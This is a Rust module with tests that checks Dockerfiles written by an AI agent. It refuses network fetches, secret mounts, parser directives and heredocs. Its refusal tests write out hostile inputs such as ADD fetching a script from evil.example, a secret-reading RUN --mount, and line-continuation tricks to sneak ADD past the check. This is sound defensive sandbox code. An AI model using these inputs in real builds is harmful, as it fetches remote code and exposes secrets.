//! What a Dockerfile from an agent (`capability-block`) may do, pure. It is
//! built with no network and an empty build context, so it can only start
//! from an image and run commands in it; anything that would reach past
//! that — parser directives (a `# syntax=` frontend is code the builder
//! fetches and runs), `ADD` (fetches URLs, unpacks archives), `RUN` flags
//! (`--mount`, `--network`, `--security`), `COPY` from the context (there is
//! none), `ONBUILD` (instructions hidden for later), heredocs (lines the
//! builder reads as a file, not as instructions) — is refused, each with a
//! reason the agent can act on. Which images it may read is `images`.
//!
//! Instructions are cut exactly where docker cuts them (`parse`), so
//! nothing the builder runs escapes the check.

pub(crate) mod images;
mod parse;

/// Instructions allowed, besides `COPY --from=…`.
const ALLOWED: &[&str] = &[
    "FROM",
    "RUN",
    "ENV",
    "ARG",
    "WORKDIR",
    "USER",
    "LABEL",
    "SHELL",
    "CMD",
    "ENTRYPOINT",
    "EXPOSE",
    "STOPSIGNAL",
    "HEALTHCHECK",
    "MAINTAINER",
];

/// Checks a Dockerfile; the error names the line and says what to do.
pub(crate) fn check(dockerfile: &str) -> Result<(), String> {
    for (number, line) in parse::lines(dockerfile).into_iter().enumerate() {
        if is_directive(line) {
            return Err(format!(
                "line {}: parser directives (# syntax=, # escape=, # check=) are not allowed; remove it",
                number + 1
            ));
        }
        if parse::ends_ambiguously(line) {
            return Err(format!(
                "line {}: it ends in \\\\, which docker's builders read differently (older ones continue the line, newer ones do not); end it otherwise",
                number + 1
            ));
        }
    }
    let mut saw_from = false;
    for instruction in parse::instructions(dockerfile) {
        let at = |problem: &str| format!("line {}: {problem}", instruction.line);
        let keyword = instruction.keyword();
        let (_, args) = instruction.args();
        let first = args.split(parse::is_blank).next().unwrap_or("");
        match keyword.as_str() {
            "ADD" => {
                return Err(at(
                    "ADD is not allowed (it fetches URLs and unpacks archives); use RUN, or COPY --from=IMAGE",
                ));
            }
            "ONBUILD" => return Err(at("ONBUILD is not allowed; write the instructions out")),
            "RUN" | "COPY" if args.contains("<<") => {
                return Err(at(
                    "heredocs (<<) are not allowed; write files with RUN printf '...' > FILE",
                ));
            }
            "COPY" => copy_options(args).map_err(at)?,
            "RUN" if first.starts_with("--") => {
                return Err(at(&format!(
                    "RUN options ({}) are not allowed: the build has no network, mounts or extra privileges",
                    first.split('=').next().unwrap_or(first)
                )));
            }
            "FROM" => saw_from = true,
            k if ALLOWED.contains(&k) => {}
            k => return Err(at(&format!("unknown instruction {k}"))),
        }
        if !saw_from && keyword != "ARG" {
            return Err(at("the first instruction must be FROM (or ARG before it)"));
        }
    }
    if saw_from {
        Ok(())
    } else {
        Err("has no FROM line".into())
    }
}

/// A `COPY`'s options (the words before its sources): written plainly (a
/// quote or an escape would make docker cut them elsewhere), one of them
/// `--from=`.
fn copy_options(args: &str) -> Result<(), &'static str> {
    let mut from = false;
    for word in args.split(parse::is_blank).filter(|w| !w.is_empty()) {
        if !word.starts_with("--") {
            break;
        }
        if word.contains(['\'', '"', '\\']) {
            return Err("COPY options take no quotes or escapes; write them plainly");
        }
        from |= word.starts_with("--from=");
    }
    if from {
        Ok(())
    } else {
        Err("COPY needs --from=IMAGE_OR_STAGE: the image is built with an empty context")
    }
}

/// `# name=value` at the start of a line: what the builder reads as a
/// parser directive when it is at the top; refused anywhere, to be plain.
fn is_directive(line: &str) -> bool {
    let Some(rest) = line.trim_start().strip_prefix('#') else {
        return false;
    };
    let Some((name, _)) = rest.split_once('=') else {
        return false;
    };
    let name = name.trim();
    !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_may_be_built() {
        let fine = [
            "FROM debian:bookworm-slim\nRUN apt-get install -y gcc\n",
            "ARG BASE=debian:bookworm-slim\nFROM $BASE\nUSER agent\n",
            "FROM node:20 AS tools\nFROM debian:bookworm-slim\nCOPY --from=tools /usr/local/bin/node /usr/local/bin/\n",
            "FROM a AS t\nFROM debian\nCOPY --chown=1000 --from=t /a /b\n",
            "from debian\n# a comment = with an equals sign in prose\nrun true \\\n  && echo done\n",
            "# A comment\nFROM debian\nENV A=1 \\\n    B=2\nWORKDIR /workspace\n",
        ];
        for dockerfile in fine {
            assert_eq!(check(dockerfile), Ok(()), "{dockerfile}");
        }
    }

    #[test]
    fn what_is_refused() {
        let cases = [
            (
                "# syntax=docker/dockerfile:1\nFROM debian\n",
                "line 1: parser directives",
            ),
            (
                "\u{feff}# syntax=evil/frontend\nFROM debian\n",
                "line 1: parser directives",
            ),
            ("#escape=`\nFROM debian\n", "line 1: parser directives"),
            (
                "  # check = skip=all\nFROM debian\n",
                "line 1: parser directives",
            ),
            (
                "FROM debian\nADD https://evil.example/x.sh /x.sh\n",
                "line 2: ADD is not allowed",
            ),
            (
                "FROM debian\nadd git@github.com:a/b.git /b\n",
                "line 2: ADD is not allowed",
            ),
            (
                "FROM debian\nADD local.tar /\n",
                "line 2: ADD is not allowed",
            ),
            // A word cut by a continuation is joined as docker joins it.
            (
                "FROM debian\nAD\\\nD https://evil.example/x /x\n",
                "line 2: ADD is not allowed",
            ),
            (
                "FROM debian\nRUN --mount=type=secret,id=x cat /run/secrets/x\n",
                "line 2: RUN options (--mount)",
            ),
            (
                "FROM debian\nRUN --network=host curl x\n",
                "line 2: RUN options (--network)",
            ),
            (
                "FROM debian\nRUN --security=insecure true\n",
                "line 2: RUN options (--security)",
            ),
            (
                "FROM debian\nRUN true && \\\n  echo\nRUN \\\n  --mount=type=cache,target=/x true\n",
                "line 4: RUN options (--mount)",
            ),
            // An escaped backslash at the end: today's builder reads the
            // next line as an instruction of its own, an older one as more
            // of this one. Neither reading is taken.
            (
                "FROM debian\nRUN echo \\\\\nADD https://evil.example/x /x\n",
                "line 2: it ends in \\\\, which docker's builders read differently",
            ),
            (
                "FROM debian\nRUN echo \\\\ \t\nUSER agent\n",
                "line 2: it ends in",
            ),
            // A blank line inside a continuation does not end it.
            (
                "FROM debian\nRUN \\\n\n--network=host true\n",
                "line 2: RUN options (--network)",
            ),
            (
                "FROM debian\nCOPY . /workspace\n",
                "line 2: COPY needs --from",
            ),
            (
                "FROM debian\nCOPY --chown=1000 state/ /x\n",
                "line 2: COPY needs --from",
            ),
            (
                "FROM debian\nCOPY x --from=y /z\n",
                "line 2: COPY needs --from",
            ),
            (
                "FROM debian\nONBUILD ADD . /x\n",
                "line 2: ONBUILD is not allowed",
            ),
            (
                "FROM debian\nRUN <<EOF\nADD https://evil.example/x /x\nEOF\n",
                "line 2: heredocs",
            ),
            (
                "FROM debian\nCOPY --from=debian <<EOF /x\nhi\nEOF\n",
                "line 2: heredocs",
            ),
            (
                "FROM debian\nFETCH x\n",
                "line 2: unknown instruction FETCH",
            ),
            (
                "RUN true\nFROM debian\n",
                "line 1: the first instruction must be FROM",
            ),
            ("# only a comment\n", "has no FROM line"),
        ];
        for (dockerfile, want) in cases {
            let err = check(dockerfile).unwrap_err();
            assert!(err.starts_with(want), "{dockerfile:?}: {err}");
        }
    }
}
